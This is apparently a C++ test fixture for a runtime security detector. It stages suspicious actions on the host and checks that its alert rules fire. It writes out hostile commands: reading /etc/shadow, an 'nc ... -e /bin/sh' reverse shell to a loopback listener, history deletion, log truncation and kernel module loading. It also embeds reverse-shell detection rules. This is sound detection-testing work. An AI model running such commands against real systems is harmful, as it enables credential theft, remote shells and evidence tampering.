#include "live_scenario.h"

#include <arpa/inet.h>
#include <fcntl.h>
#include <ifaddrs.h>
#include <netinet/in.h>
#include <poll.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

#include <boost/test/unit_test.hpp>
#include <cerrno>
#include <cstring>
#include <filesystem>
#include <fstream>
#include <functional>
#include <optional>
#include <sstream>
#include <vector>

#include "lanner_process.h"

namespace lanner::live {

namespace fs = std::filesystem;

namespace {

// Runs `body` in a forked child that exits with its result; waits for it.
pid_t in_child(const std::function<int()>& body) {
    const pid_t pid = fork();
    BOOST_REQUIRE_MESSAGE(pid >= 0, "fork: " << std::strerror(errno));
    if (pid == 0) _exit(body());
    int status = 0;
    waitpid(pid, &status, 0);
    return pid;
}

// Runs a program in a forked child (output discarded); waits for it. The
// programs' own success does not matter: the tests look at what they did.
pid_t exec_child(const std::vector<std::string>& argv) {
    std::vector<char*> args;
    for (const auto& a : argv) args.push_back(const_cast<char*>(a.c_str()));
    args.push_back(nullptr);
    return in_child([&] {
        const int null = open("/dev/null", O_RDWR);
        dup2(null, 1);
        dup2(null, 2);
        execv(args[0], args.data());
        return 127;
    });
}

int listen_on(in_addr_t address, uint16_t& port) {
    const int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
    BOOST_REQUIRE(fd >= 0);
    sockaddr_in a{};
    a.sin_family = AF_INET;
    a.sin_addr.s_addr = address;
    socklen_t len = sizeof(a);
    BOOST_REQUIRE(bind(fd, reinterpret_cast<sockaddr*>(&a), sizeof(a)) == 0);
    BOOST_REQUIRE(listen(fd, 4) == 0);
    BOOST_REQUIRE(getsockname(fd, reinterpret_cast<sockaddr*>(&a), &len) == 0);
    port = ntohs(a.sin_port);
    return fd;
}

int listen_on_loopback(uint16_t& port) {
    return listen_on(htonl(INADDR_LOOPBACK), port);
}

// An IPv4 address of this host outside loopback and the private ranges (a
// connection to it never leaves the host, and looks outbound to the rules),
// or nothing.
std::optional<in_addr> public_local_address() {
    ifaddrs* list = nullptr;
    if (getifaddrs(&list) != 0) return std::nullopt;
    std::optional<in_addr> found;
    for (ifaddrs* i = list; i != nullptr && !found; i = i->ifa_next) {
        if (i->ifa_addr == nullptr || i->ifa_addr->sa_family != AF_INET) continue;
        const in_addr a = reinterpret_cast<const sockaddr_in*>(i->ifa_addr)->sin_addr;
        const uint32_t h = ntohl(a.s_addr);
        const auto in = [h](uint32_t net, int bits) {
            return (h >> (32 - bits)) == (net >> (32 - bits));
        };
        if (in(0x7f000000, 8) || in(0x0a000000, 8) || in(0xac100000, 12) || in(0xc0a80000, 16) ||
            in(0xa9fe0000, 16) || in(0x64400000, 10))
            continue;
        found = a;
    }
    freeifaddrs(list);
    return found;
}

// accept() with a deadline: -1 when nobody connected in time.
int accept_within(int listener, int timeout_ms) {
    pollfd p{listener, POLLIN, 0};
    if (poll(&p, 1, timeout_ms) <= 0) return -1;
    return accept4(listener, nullptr, nullptr, SOCK_CLOEXEC);
}

std::string random_marker() {
    return "lanner-live-" + random_hex_id().substr(0, 10);
}

}  // namespace

LiveScenario::LiveScenario(const TempDir& dir)
    : marker(random_marker()), test_pid(getpid()), test_comm(own_comm()), dir_(dir) {
    end_marker_ = marker + "-end";
    etc_file = "/etc/" + marker + ".tmp";
    log_file = "/var/log/" + marker + ".log";
    symlink_path = dir.file("shadow-link");
    history_file = dir.file(".bash_history");
    tmp_program = dir.file("tmp-program");
    fs::copy_file("/bin/true", tmp_program);
    fs::permissions(tmp_program,
                    fs::perms::owner_all | fs::perms::group_exec | fs::perms::others_exec);
    for (const char* link : {"chain_a", "chain_b", "chain_c"})
        fs::create_symlink(helper("exec_chain"), dir.file(link));
    server_fd_ = listen_on_loopback(server_port);
    redirect_fd_ = listen_on_loopback(redirect_port);
    std::string outbound_command;
    if (const auto a = public_local_address()) {
        char text[INET_ADDRSTRLEN] = {};
        inet_ntop(AF_INET, &*a, text, sizeof(text));
        outbound_address = text;
        outbound_fd_ = listen_on(a->s_addr, outbound_port);
        outbound_command =
            " /bin/nc " + outbound_address + " " + std::to_string(outbound_port) + " </dev/null;";
    }

    BusyboxContainer::Options terminal_shell;
    terminal_shell.args = {"sh"};
    terminal_shell.terminal = true;
    interactive_ = std::make_unique<BusyboxContainer>(dir.file("interactive"), terminal_shell);
    BusyboxContainer::Options all_caps;
    all_caps.args = {"/bin/sh", "-c",
                     "/bin/mount -t tmpfs none /mnt && /bin/umount /mnt;"
                     " /bin/awk 'BEGIN { system(\"true\") }';" +
                         outbound_command + " /bin/insmod /x.ko; true"};
    all_caps.all_capabilities = true;
    capable_ = std::make_unique<BusyboxContainer>(dir.file("capable"), all_caps);
}

LiveScenario::~LiveScenario() {
    if (redirect_server_.joinable()) redirect_server_.join();
    std::error_code ec;
    fs::remove(etc_file, ec);
    fs::remove(log_file, ec);
    if (server_fd_ >= 0) close(server_fd_);
    if (redirect_fd_ >= 0) close(redirect_fd_);
    if (outbound_fd_ >= 0) close(outbound_fd_);
}

std::string LiveScenario::write_test_rules() const {
    const std::string path = dir_.file("live_test_rules.yaml");
    const std::string port = std::to_string(server_port);
    std::ofstream out(path);
    out << "# Rules of one live test run (" << marker << "), written by live_scenario.cpp.\n"
        << R"yaml(
- rule: Live test loopback connect
  desc: The run's connection to its own loopback listener, client side.
  condition: evt.type = connect and fd.sip = 127.0.0.1 and fd.sport = )yaml"
        << port << R"yaml(
  output: >
    Loopback connect (sip=%fd.sip sport=%fd.sport cip=%fd.cip cport=%fd.cport
    lip=%fd.lip lport=%fd.lport rip=%fd.rip rport=%fd.rport proto=%fd.l4proto
    name=%fd.name type=%fd.type connected=%fd.connected server=%fd.is_server
    res=%evt.res)
  priority: NOTICE
  tags: [lanner_live_test]

- rule: Live test loopback accept
  desc: The run's connection to its own loopback listener, server side.
  condition: evt.type in (accept, accept4) and fd.sip = 127.0.0.1 and fd.sport = )yaml"
        << port << R"yaml(
  output: >
    Loopback accept (sip=%fd.sip sport=%fd.sport cip=%fd.cip cport=%fd.cport
    lport=%fd.lport rport=%fd.rport proto=%fd.l4proto server=%fd.is_server)
  priority: NOTICE
  tags: [lanner_live_test]

- rule: Live test exec chain
  desc: The last program of the run's fork/exec chain, with its ancestors.
  condition: evt.type in (execve, execveat) and evt.res = SUCCESS and proc.args = )yaml"
        << marker << R"yaml(-chain
  output: >
    Exec chain leaf (args=%proc.args aname1=%proc.aname[1] aname2=%proc.aname[2]
    aname3=%proc.aname[3] aname4=%proc.aname[4] apid1=%proc.apid[1]
    apid2=%proc.apid[2] apid3=%proc.apid[3] apid4=%proc.apid[4] pname=%proc.pname)
  priority: NOTICE
  tags: [lanner_live_test]

- rule: Live test reverse shell streams
  desc: A shell whose standard input is a TCP connection, with its std streams.
  condition: >
    evt.type in (execve, execveat) and evt.res = SUCCESS and proc.name = sh
    and proc.stdin.type in (ipv4, ipv6)
  output: >
    Shell on a socket (process=%proc.name stdin=%proc.stdin.type
    stdout=%proc.stdout.type stdin_name=%proc.stdin.name)
  priority: NOTICE
  tags: [lanner_live_test]

- rule: Live test std stream onto a socket
  desc: A standard stream of a container process replaced by a TCP connection.
  condition: >
    evt.type in (dup, dup2, dup3) and evt.rawres in (0, 1, 2) and fd.type in (ipv4, ipv6)
    and container.id != host
  output: >
    Std stream onto a socket (process=%proc.name res=%evt.rawres type=%fd.type
    types0=%fd.types[0] types1=%fd.types[1] types=%fd.types)
  priority: NOTICE
  tags: [lanner_live_test]

- rule: Live test end
  desc: The last action of the run.
  condition: evt.type in (execve, execveat) and evt.res = SUCCESS and proc.args = )yaml"
        << end_marker_ << R"yaml(
  output: "End of the live test actions (args=%proc.args)"
  priority: NOTICE
  tags: [lanner_live_test]
)yaml";
    return path;
}

void LiveScenario::serve_redirect() {
    const int c = accept_within(redirect_fd_, 30000);
    if (c < 0) return;
    // The reverse shell reads its commands from us: let it end at once.
    static const char cmd[] = "echo redirected; exit\n";
    if (write(c, cmd, sizeof(cmd) - 1) < 0) {
        close(c);
        return;
    }
    char buf[256];
    for (;;) {
        pollfd p{c, POLLIN, 0};
        if (poll(&p, 1, 10000) <= 0) break;
        const ssize_t n = read(c, buf, sizeof(buf));
        if (n <= 0) break;
        reverse_shell_output.append(buf, static_cast<size_t>(n));
    }
    close(c);
}

void LiveScenario::perform() {
    shadow_reader = exec_child({"/bin/cat", "/etc/shadow"});

    etc_writer = in_child([&] {
        const int fd = open(etc_file.c_str(), O_WRONLY | O_CREAT | O_EXCL | O_CLOEXEC, 0600);
        if (fd < 0) return 1;
        const bool ok = write(fd, "lanner\n", 7) == 7;
        close(fd);
        return ok ? 0 : 1;
    });
    fs::remove(etc_file);

    int report[2];
    BOOST_REQUIRE(pipe2(report, O_CLOEXEC) == 0);
    connector = fork();
    BOOST_REQUIRE(connector >= 0);
    if (connector == 0) {
        const int s = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
        sockaddr_in a{};
        a.sin_family = AF_INET;
        a.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
        a.sin_port = htons(server_port);
        if (connect(s, reinterpret_cast<sockaddr*>(&a), sizeof(a)) != 0) _exit(1);
        socklen_t len = sizeof(a);
        getsockname(s, reinterpret_cast<sockaddr*>(&a), &len);
        const uint16_t port = ntohs(a.sin_port);
        _exit(write(report[1], &port, sizeof(port)) == sizeof(port) ? 0 : 1);
    }
    close(report[1]);
    const int accepted = accept_within(server_fd_, 10000);
    BOOST_REQUIRE_MESSAGE(accepted >= 0, "the loopback connection did not arrive");
    close(accepted);
    BOOST_REQUIRE(read(report[0], &client_port, sizeof(client_port)) == sizeof(client_port));
    close(report[0]);
    waitpid(connector, nullptr, 0);

    chain_head = exec_child({dir_.file("chain_a"), dir_.file("chain_b"), dir_.file("chain_c"),
                             "/bin/true", marker + "-chain"});
    memfd_runner = exec_child({helper("memfd_exec"), "/bin/true", marker + "-memfd"});
    tracer = exec_child({helper("ptrace_attach")});
    symlinker = exec_child({"/bin/ln", "-s", "/etc/shadow", symlink_path});
    tmp_runner = exec_child({tmp_program});

    history_remover = in_child([&] {
        const int fd = open(history_file.c_str(), O_WRONLY | O_CREAT | O_CLOEXEC, 0600);
        if (fd < 0) return 1;
        close(fd);
        return unlink(history_file.c_str()) == 0 ? 0 : 1;
    });
    log_truncator = in_child([&] {
        int fd = open(log_file.c_str(), O_WRONLY | O_CREAT | O_EXCL | O_CLOEXEC, 0600);
        if (fd < 0) return 1;
        const bool ok = write(fd, "a line\n", 7) == 7;
        close(fd);
        fd = open(log_file.c_str(), O_WRONLY | O_TRUNC | O_CLOEXEC);  // clears it
        if (fd < 0) return 1;
        close(fd);
        return ok ? 0 : 1;
    });
    fs::remove(log_file);
    // As nobody, ask for uid 0: the kernel refuses.
    root_seeker = exec_child({"/usr/bin/setpriv", "--reuid=65534", "--regid=65534",
                              "--clear-groups", "/usr/bin/setpriv", "--reuid=0", "/bin/true"});

    redirect_server_ = std::thread([this] { serve_redirect(); });
    const std::string session =
        "/bin/apk add lanner-live-package\n"
        "/bin/useradd lannerlive\n"
        "/bin/nc 127.0.0.1 " +
        std::to_string(redirect_port) +
        " -e /bin/sh\n"
        "exit\n";
    interactive_output = interactive_->run(session).output;
    redirect_server_.join();
    // The capable container's nc connects to us and ends when we hang up.
    std::thread outbound_server;
    if (outbound_fd_ >= 0) {
        outbound_server = std::thread([this] {
            const int c = accept_within(outbound_fd_, 30000);
            if (c >= 0) close(c);
        });
    }
    capable_output = capable_->run().output;
    if (outbound_server.joinable()) outbound_server.join();
}

void LiveScenario::signal_end() {
    exec_child({"/bin/true", end_marker_});
}

ScenarioRun run_scenario(LiveScenario& scenario, const std::vector<std::string>& args,
                         const std::string& dir) {
    LannerProcess lanner(args, dir);
    lanner.wait_ready();
    scenario.perform();
    scenario.signal_end();
    const bool ended = lanner.wait_for_alert(scenario.end_marker());
    const int code = lanner.stop();
    BOOST_REQUIRE_MESSAGE(ended, "the end marker raised no alert; lanner's log:\n" << lanner.log());
    BOOST_REQUIRE_MESSAGE(code == 0, "lanner exited with " << code << ":\n" << lanner.log());
    return {lanner.alert_lines(), AlertSet(lanner.alerts()), lanner.log()};
}

}  // namespace lanner::live
